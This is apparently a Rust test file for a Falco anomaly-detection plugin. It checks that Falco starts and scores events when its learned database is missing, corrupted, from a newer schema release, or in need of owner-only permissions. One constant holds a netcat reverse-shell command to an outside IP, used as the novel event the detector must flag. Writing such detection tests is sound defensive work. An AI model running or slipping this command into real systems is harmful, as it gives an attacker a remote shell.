//! Whatever is wrong with the database, Falco starts, and events have their fields.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::{Host, config, exec};

const NOVEL: &str = "/usr/bin/nc -e /bin/sh 203.0.113.7 4444";

/// A database that has learned, as another process left it: the engine of this one lives on with its own.
fn database(path: &Path) {
    let directory = tempfile::tempdir().expect("a directory");
    let original = directory.path().join("database");
    let mut host = Host::new(&config(&original, 20));
    host.learn();
    drop(host.stop());
    let copied = Command::new("cp").arg("-r").args([&original, path]).status().expect("it runs");
    assert!(copied.success());
}

/// Every file of a database's tables whose name ends so.
fn files(path: &Path, end: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut folders = vec![path.join("tables")];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).expect("a folder") {
            let path = entry.expect("an entry").path();
            if path.is_dir() {
                folders.push(path);
            } else if path.to_string_lossy().ends_with(end) {
                found.push(path);
            }
        }
    }
    assert!(!found.is_empty(), "there are files that end in {end}");
    found
}

/// It starts, learns and scores, and Falco's metrics come.
fn starts_and_scores(path: &Path, what: &str) {
    let mut host = Host::new(&config(path, 20));
    host.learn();
    let novel = host.score(&exec(200, 1, NOVEL));
    assert!(novel.as_deref() > Some("0.8"), "{what}: {novel:?}");
    assert_eq!(host.score(&exec(201, 1, "/usr/sbin/nginx -g daemon")).as_deref(), Some("0.0000"), "{what}");
    assert_eq!(host.metric("panics"), 0, "{what}");
}

#[test]
fn what_is_no_database_is_left_alone_and_falco_starts() {
    let directory = tempfile::tempdir().expect("a directory");
    let at = |name: &str| directory.path().join(name);
    fs::write(at("file"), "years of work").expect("written");
    fs::create_dir(at("thesis")).expect("made");
    fs::write(at("thesis").join("chapter"), "years of work").expect("written");
    std::os::unix::fs::symlink(at("loop"), at("loop")).expect("made");
    for name in ["file", "file/below", "thesis", "loop", "loop/below"] {
        starts_and_scores(&at(name), name);
    }
    starts_and_scores(Path::new("/proc/1/nothing"), "where nothing can be made");
    assert_eq!(fs::read_to_string(at("file")).expect("there"), "years of work");
    assert_eq!(fs::read_dir(at("thesis")).expect("there").count(), 1, "nothing was put beside it");
}

#[test]
fn a_damaged_database_is_learned_anew_and_falco_starts() {
    type Damage = fn(&Path);
    let damages: [(&str, Damage); 5] = [
        ("no manifest opens", |path| {
            files(path, ".manifest").iter().for_each(|file| fs::write(file, "").expect("written"));
        }),
        ("no row can be read", |path| {
            files(path, ".lance").iter().for_each(|file| fs::write(file, "PAR1").expect("written"));
        }),
        ("every file is noise", |path| {
            files(path, "").iter().for_each(|file| fs::write(file, [0xa5; 4096]).expect("written"));
        }),
        ("its marker is cut off", |path| {
            fs::write(path.join("falco-anomaly.json"), "{").expect("written");
        }),
        ("a file is where its tables were", |path| {
            fs::rename(path.join("tables"), path.join("quarantine-by-hand")).expect("moved");
            fs::write(path.join("tables"), "").expect("written");
        }),
    ];
    for (what, damage) in damages {
        let directory = tempfile::tempdir().expect("a directory");
        let path = directory.path().join("database");
        database(&path);
        damage(&path);
        starts_and_scores(&path, what);
    }
}

#[test]
fn a_newer_release_s_database_is_left_alone_and_nothing_is_scored() {
    let directory = tempfile::tempdir().expect("a directory");
    let path = directory.path().join("database");
    database(&path);
    let marker = path.join("falco-anomaly.json");
    let text = fs::read_to_string(&marker).expect("it is there");
    let newer = text.replace("\"schema\": 1", "\"schema\": 99");
    assert_ne!(newer, text);
    fs::write(&marker, &newer).expect("written");
    let mut host = Host::new(&config(&path, 20));
    host.learn();
    assert_eq!(host.score(&exec(200, 1, NOVEL)), None);
    let event = host.event(exec(201, 1, NOVEL).event());
    assert_eq!(host.field(&event, "anomaly.level").as_deref(), Some("learning"));
    drop(host);
    assert_eq!(fs::read_to_string(&marker).expect("it is there"), newer);
}

#[test]
fn a_database_is_made_for_its_owner_alone() {
    let directory = tempfile::tempdir().expect("a directory");
    let path = directory.path().join("var/lib/falco-anomaly");
    let mut host = Host::new(&config(&path, 20));
    host.learn();
    drop(host.stop());
    let mode = |path: &Path| fs::metadata(path).expect("it is there").permissions().mode() & 0o777;
    assert_eq!((mode(&path), mode(path.parent().expect("one"))), (0o700, 0o700));
    for file in files(&path, "") {
        assert_eq!(mode(&file), 0o600, "{}", file.display());
    }
}
